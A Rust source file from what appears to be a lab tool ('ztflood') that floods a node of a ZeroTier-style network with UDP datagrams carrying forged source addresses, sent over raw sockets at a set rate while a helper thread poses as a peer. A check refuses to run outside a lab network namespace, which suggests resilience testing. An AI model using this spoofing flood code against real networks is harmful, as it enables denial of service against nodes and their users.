//! The attacker: raw sockets, because the source addresses are not ours.

use std::net::{Ipv4Addr, SocketAddrV4, UdpSocket};
use std::os::fd::AsRawFd;
use std::sync::Mutex;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use anyhow::{Context, Result, bail};
use clap::Args;
use nix::sched::{CpuSet, sched_setaffinity};
use nix::sys::socket::{
    AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, SockaddrIn, sendto, socket,
};
use nix::unistd::Pid;
use protocol::{Address, Identity, NetworkId, Time};

use crate::kinds::{Generator, Kind};

/// What to send, to whom.
#[derive(Args, Debug)]
pub(crate) struct Fire {
    /// Which flood.
    #[arg(long, value_enum)]
    kind: Kind,
    /// Where to.
    #[arg(long)]
    to: SocketAddrV4,
    /// The victim's public identity.
    #[arg(long)]
    victim: String,
    /// A network it has joined.
    #[arg(long)]
    network: NetworkId,
    /// Where the attacker itself is.
    #[arg(long)]
    from: SocketAddrV4,
    /// Addresses of nodes the victim knows.
    #[arg(long, value_delimiter = ',')]
    others: Vec<Address>,
    /// Datagrams a second.
    #[arg(long)]
    rate: u32,
    /// For how long.
    #[arg(long, default_value_t = 5)]
    seconds: u32,
    /// The processor core to stay on.
    #[arg(long)]
    core: Option<usize>,
}

fn now() -> Time {
    let since = SystemTime::now().duration_since(UNIX_EPOCH).unwrap_or_default();
    Time::from_ms(i64::try_from(since.as_millis()).unwrap_or(i64::MAX))
}

/// Whether this is a network namespace of a lab: forged datagrams must not get out of one.
fn in_a_lab() -> bool {
    let own = std::fs::read_link("/proc/self/ns/net");
    let Ok(names) = std::fs::read_dir("/run/netns") else { return false };
    use std::os::unix::fs::MetadataExt;
    let Some(inode) = own.ok().and_then(|link| {
        link.to_string_lossy().split(['[', ']']).nth(1).and_then(|number| number.parse::<u64>().ok())
    }) else {
        return false;
    };
    names.flatten().any(|entry| {
        entry.file_name().to_string_lossy().starts_with(lab::namespace::PREFIX)
            && std::fs::metadata(entry.path()).is_ok_and(|file| file.ino() == inode)
    })
}

/// Lays an IPv4 and a UDP header in front of a payload. The kernel fills in length and checksum of the IPv4 header; a UDP checksum
/// of zero means none.
fn lay(packet: &mut Vec<u8>, from: SocketAddrV4, to: SocketAddrV4, payload: &[u8]) {
    packet.clear();
    let length = (28 + payload.len()) as u16;
    packet.extend_from_slice(&[0x45, 0]);
    packet.extend_from_slice(&length.to_be_bytes());
    packet.extend_from_slice(&[0, 0, 0, 0, 64, 17, 0, 0]);
    packet.extend_from_slice(&from.ip().octets());
    packet.extend_from_slice(&to.ip().octets());
    for port in [from.port(), to.port(), (8 + payload.len()) as u16, 0] {
        packet.extend_from_slice(&port.to_be_bytes());
    }
    packet.extend_from_slice(payload);
}

impl Fire {
    /// Sends until time is up, and says how much that was.
    ///
    /// # Errors
    /// Outside a lab, or without the right to send raw packets.
    pub(crate) fn run(self) -> Result<()> {
        if !in_a_lab() {
            bail!(
                "not in a network namespace of a lab: use `ip netns exec {}… ztflood fire`",
                lab::namespace::PREFIX
            );
        }
        if let Some(core) = self.core {
            let mut set = CpuSet::new();
            set.set(core)
                .and_then(|()| sched_setaffinity(Pid::from_raw(0), &set))
                .context("cannot stay on a core")?;
        }
        let victim = Identity::parse(self.victim.trim()).context("the victim's identity")?;
        let generator = Generator::new(self.kind, victim, self.network, self.from, self.others.clone());
        let generator = Mutex::new(generator);
        let port = UdpSocket::bind(self.from).with_context(|| format!("cannot listen at {}", self.from))?;
        port.set_read_timeout(Some(Duration::from_millis(100)))?;
        let raw = socket(AddressFamily::Inet, SockType::Raw, SockFlag::SOCK_CLOEXEC, SockProtocol::Raw)
            .context("raw sockets need root")?;
        let over = AtomicBool::new(false);
        let lock = || generator.lock().map_err(|_| anyhow::anyhow!("a thread panicked"));
        std::thread::scope(|scope| -> Result<()> {
            // The stranger is a peer like any other: it introduces itself, and answers.
            let answering = scope.spawn(|| -> Result<()> {
                let node = SocketAddrV4::new(*self.to.ip(), 9_993);
                port.send_to(&lock()?.hello(now()), node)?;
                let mut buffer = [0; 2_048];
                while !over.load(Ordering::Relaxed) {
                    let Ok((length, from)) = port.recv_from(&mut buffer) else { continue };
                    if let Some(answer) = lock()?.answer(&mut buffer[..length]) {
                        let _ = port.send_to(&answer, from);
                    }
                }
                Ok(())
            });
            std::thread::sleep(Duration::from_millis(500));
            let start = Instant::now();
            let end = Duration::from_secs(self.seconds.into());
            let (mut sent, mut refused) = (0u64, 0u64);
            let mut packet = Vec::new();
            let to = SockaddrIn::from(self.to);
            while start.elapsed() < end {
                let due = (start.elapsed().as_secs_f64() * f64::from(self.rate)) as u64;
                // Behind by a tenth of a second at most: what could not be sent is not made up for.
                sent = sent.max(due.saturating_sub(u64::from(self.rate / 10).max(1)));
                if sent >= due {
                    std::thread::sleep(Duration::from_micros(200));
                    continue;
                }
                let (from, payload) = lock()?.next(now());
                lay(&mut packet, from, self.to, &payload);
                refused += u64::from(sendto(raw.as_raw_fd(), &packet, &to, MsgFlags::empty()).is_err());
                sent += 1;
            }
            over.store(true, Ordering::Relaxed);
            answering.join().map_err(|_| anyhow::anyhow!("the answering thread panicked"))??;
            println!(
                "{{\"sent\": {sent}, \"refused\": {refused}, \"seconds\": {:.2}}}",
                start.elapsed().as_secs_f64()
            );
            Ok(())
        })
    }
}

/// Where the attacker of a lab listens.
pub(crate) fn attacker_at(ip: Ipv4Addr) -> SocketAddrV4 {
    SocketAddrV4::new(ip, 9_993)
}
